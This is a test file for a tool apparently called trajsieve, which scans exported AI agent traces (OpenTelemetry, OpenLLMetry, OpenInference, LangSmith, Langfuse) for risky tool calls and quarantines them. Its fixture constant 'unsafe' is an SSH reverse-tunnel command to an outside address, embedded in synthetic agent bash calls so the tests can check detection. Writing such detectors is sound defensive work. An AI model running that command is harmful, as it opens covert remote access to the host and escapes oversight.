import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, test } from 'vitest';
import { readRows } from '../../src/output/read-rows.ts';
import { packagePath } from '../../src/package-path.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { trajsieve } from '../support/trajsieve.ts';

const unsafe = 'ssh -fN -R 2222:localhost:22 me@203.0.113.9';
const shard = 'train-00000-of-00001.parquet';
const classifiers = ['--classifiers', packagePath('classifiers/tunnels')];

function run(file: string, ...more: string[]) {
  const out = join(temporaryFolder(), 'out');
  const { status, stdout, stderr } = trajsieve([
    'run',
    file,
    '--out',
    out,
    '--json',
    '-q',
    ...classifiers,
    ...more,
  ]);
  return { out, status, stderr, rows: status === 0 ? JSON.parse(stdout).rows : undefined };
}

/** Rows of the file and steps of its trajectory that findings are at. */
async function findingsOf(out: string): Promise<string[]> {
  const found = new Set<string>();
  for await (const row of readRows(join(out, 'findings', shard), ['row', 'step', 'id']))
    found.add(`row ${row['row']}, step ${row['step']} of ${row['id']}`);
  return [...found];
}

async function recordsOf(out: string, folder: string): Promise<string[]> {
  const records: string[] = [];
  for await (const { record } of readRows(join(out, folder, shard), ['record']))
    records.push(typeof record === 'string' ? record : JSON.stringify(record));
  return records;
}

function write(name: string, text: string): string {
  const file = join(temporaryFolder(), name);
  writeFileSync(file, text);
  return file;
}

const linesOf = (records: readonly unknown[]) =>
  records.map((record) => `${JSON.stringify(record)}\n`).join('');

describe('batches of spans, as the file exporter of OpenTelemetry writes them', { timeout: 300_000 }, () => {
  const attributes = (values: Record<string, string>) =>
    Object.entries(values).map(([key, stringValue]) => ({ key, value: { stringValue } }));
  const span = (trace: string, at: number, values: Record<string, string>) => ({
    traceId: trace,
    spanId: `${trace}${at}`,
    startTimeUnixNano: String(1_767_323_045_000_000_000n + BigInt(at)),
    attributes: attributes(values),
  });
  const reply = (command: string) =>
    JSON.stringify([
      { role: 'assistant', parts: [{ type: 'tool_call', id: 'c', name: 'bash', arguments: { command } }] },
    ]);
  const chat = (trace: string, at: number, command = 'ls') =>
    span(trace, at, {
      'gen_ai.input.messages': '[{"role":"user","parts":[{"type":"text","content":"Tidy up."}]}]',
      'gen_ai.output.messages': reply(command),
    });
  const web = (trace: string, at: number) => span(trace, at, { 'http.request.method': 'GET' });
  const batch = (...spans: unknown[]) => ({
    resourceSpans: [
      {
        resource: { attributes: attributes({ 'service.name': 'agent' }) },
        scopeSpans: [{ scope: { name: 'x' }, spans }],
      },
    ],
  });

  test('each span is a row, and the spans of a trace are one trajectory over all lines', async () => {
    const lines = [
      batch(web('a', 0), chat('a', 1)),
      batch(chat('a', 2, unsafe)),
      batch(chat('b', 0), web('b', 1)),
    ];
    const file = write('spans.jsonl', linesOf(lines));
    const { out, rows, status, stderr } = run(file);
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(rows).toMatchObject({ in: 5, kept: 2, quarantined: 3 });
    expect(await findingsOf(out)).toEqual(['row 2, step 5 of a']);
    expect(trajsieve(['verify', out]).status).toBe(0);
    expect(await findingsOf(run(file, '--no-prefilter').out)).toEqual(await findingsOf(out));
  });

  test('a row is a batch of its span alone, with every value as it was written', async () => {
    const text = JSON.stringify(batch(chat('a', 0, unsafe), web('b', 0))).replace(
      '"scope":{',
      '"scope" : { "x":1.50, ',
    );
    const { out } = run(write('spans.json', text));
    const [quarantined] = await recordsOf(out, 'quarantine');
    expect(quarantined).toContain('"scope" : { "x":1.50, "name":"x"}');
    expect(JSON.parse(quarantined!).resourceSpans[0].scopeSpans[0].spans).toEqual([chat('a', 0, unsafe)]);
    expect((await recordsOf(out, 'data')).map((record) => JSON.parse(record))).toMatchObject([
      batch(web('b', 0)),
    ]);
  });

  test('traces may alternate within a batch, and what lies apart over batches is an error', async () => {
    const mixed = batch(chat('a', 0), chat('b', 0), chat('a', 1, unsafe));
    const { out, rows } = run(write('spans.jsonl', linesOf([mixed])));
    expect(rows).toMatchObject({ in: 3, kept: 1, quarantined: 2 });
    expect(await findingsOf(out)).toEqual(['row 1, step 4 of a']);
    const apart = run(write('spans.jsonl', linesOf([mixed, batch(chat('b', 1)), batch(chat('a', 2))])));
    expect(apart.status).not.toBe(0);
    expect(apart.stderr).toMatch(/rows of trajectory "a" do not lie together.*sort the file by traceId/);
  });

  test('attributes that are spread over keys are read: OpenLLMetry and OpenInference', async () => {
    const open = span('a', 0, {
      'gen_ai.prompt.0.role': 'user',
      'gen_ai.prompt.0.content': 'Tidy up.',
      'gen_ai.completion.0.role': 'assistant',
      'gen_ai.completion.0.tool_calls.0.name': 'bash',
      'gen_ai.completion.0.tool_calls.0.arguments': JSON.stringify({ command: unsafe }),
    });
    expect(await findingsOf(run(write('a.jsonl', linesOf([batch(open)]))).out)).toEqual([
      'row 0, step 1 of a',
    ]);
    const function_ = 'llm.output_messages.0.message.tool_calls.0.tool_call.function';
    const phoenix = span('a', 0, {
      'llm.input_messages.0.message.role': 'user',
      'llm.input_messages.0.message.content': 'Tidy up.',
      'llm.output_messages.0.message.role': 'assistant',
      [`${function_}.name`]: 'bash',
      [`${function_}.arguments`]: JSON.stringify({ command: unsafe }),
    });
    expect(await findingsOf(run(write('a.jsonl', linesOf([batch(phoenix)]))).out)).toEqual([
      'row 0, step 1 of a',
    ]);
  });

  test('a line that is no batch is an unreadable row', () => {
    const file = write('spans.jsonl', `${linesOf([batch(chat('a', 0))])}{"resourceSpans": [\n`);
    const out = join(temporaryFolder(), 'out');
    const { status, stdout } = trajsieve(['run', file, '--out', out, '--json', '-q', ...classifiers]);
    expect(status).toBe(4);
    expect(JSON.parse(stdout).rows).toMatchObject({ in: 2, unreadable: 1 });
  });
});

/** Rows as JSON lines, and as Parquet with everything as text. */
function writeRows(rows: readonly Record<string, unknown>[], kind: string): string {
  if (kind === 'jsonl') return write('rows.jsonl', linesOf(rows));
  const names = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  const textOf = (value: unknown) =>
    typeof value === 'object' && value !== null ? JSON.stringify(value) : value;
  const columnData = names.map((name) => ({
    name,
    data: rows.map((row) => textOf(row[name] ?? null)),
    type: 'STRING' as const,
    nullable: true,
  }));
  const file = join(temporaryFolder(), 'rows.parquet');
  writeFileSync(file, new Uint8Array(parquetWriteBuffer({ columnData: columnData as never })));
  return file;
}

describe.each([['jsonl'], ['parquet']])('exports of traces, as %s', { timeout: 300_000 }, (kind) => {
  const user = { role: 'user', content: 'Tidy up.' };
  const call = (command: string) => ({
    role: 'assistant',
    content: '',
    tool_calls: [
      { id: 'c', type: 'function', function: { name: 'bash', arguments: JSON.stringify({ command }) } },
    ],
  });
  const result = { role: 'tool', tool_call_id: 'c', content: 'done' };

  test('the runs of a LangSmith trace are one trajectory', async () => {
    const llm = (trace: string, at: number, command: string) => ({
      id: `${trace}${at}`,
      trace_id: trace,
      parent_run_id: trace,
      run_type: 'llm',
      start_time: `2026-01-02T03:04:0${at}Z`,
      inputs: { messages: [user, ...(at > 1 ? [call('ls'), result] : [])] },
      outputs: { choices: [{ message: call(command) }] },
    });
    const root = (trace: string) => ({
      ...llm(trace, 0, ''),
      parent_run_id: null,
      run_type: 'chain',
      inputs: {},
      outputs: {},
    });
    const rows = [root('a'), llm('a', 1, 'ls'), root('b'), llm('b', 2, unsafe), llm('b', 1, 'ls')];
    const { out, rows: account } = run(writeRows(rows, kind));
    expect(account).toMatchObject({ in: 5, kept: 2, quarantined: 3 });
    expect(await findingsOf(out)).toEqual(['row 3, step 7 of b']);
    const apart = run(writeRows([...rows, llm('a', 2, 'ls')], kind));
    expect(apart.stderr).toMatch(/rows of trajectory "a" do not lie together.*sort the file by trace_id/);
  });

  test('a LangSmith trace that is its first run alone is read by its output', async () => {
    const row = {
      id: 'a',
      trace_id: 'a',
      parent_run_id: null,
      run_type: 'chain',
      start_time: '2026-01-02T03:04:05Z',
      inputs: { messages: [user] },
      outputs: { messages: [user, call(unsafe), result] },
    };
    expect(await findingsOf(run(writeRows([row], kind)).out)).toEqual(['row 0, step 2 of a']);
  });

  test('the observations of a Langfuse trace are one trajectory', async () => {
    const generation = (trace: string, at: number, command: string) => ({
      id: `${trace}${at}`,
      trace_id: trace,
      type: 'GENERATION',
      start_time: `2026-01-02T03:04:0${at}Z`,
      input: [user],
      output: call(command),
    });
    const tool = {
      ...generation('b', 2, ''),
      type: 'TOOL',
      name: 'bash',
      input: { command: unsafe },
      output: 'done',
    };
    const rows = [generation('a', 1, 'ls'), tool, generation('b', 1, 'ls')];
    const { out, rows: account } = run(writeRows(rows, kind));
    expect(account).toMatchObject({ in: 3, kept: 1, quarantined: 2 });
    expect(await findingsOf(out)).toEqual(['row 1, step 3 of b']);
  });
});

test('Langfuse observations may lie in their traces', async () => {
  const observation = (id: string, command: string) => ({
    id,
    traceId: 't',
    type: 'GENERATION',
    startTime: '2026-01-02T03:04:05Z',
    input: [{ role: 'user', content: 'Tidy up.' }],
    output: {
      role: 'assistant',
      content: null,
      tool_calls: [{ id: 'c', function: { name: 'bash', arguments: JSON.stringify({ command }) } }],
    },
  });
  const trace = { id: 't', name: 'agent', observations: [observation('1', 'ls'), observation('2', unsafe)] };
  const { out, rows } = run(write('traces.json', JSON.stringify([trace])));
  expect(rows).toMatchObject({ in: 2, quarantined: 2 });
  expect(await findingsOf(out)).toEqual(['row 1, step 4 of t']);
});
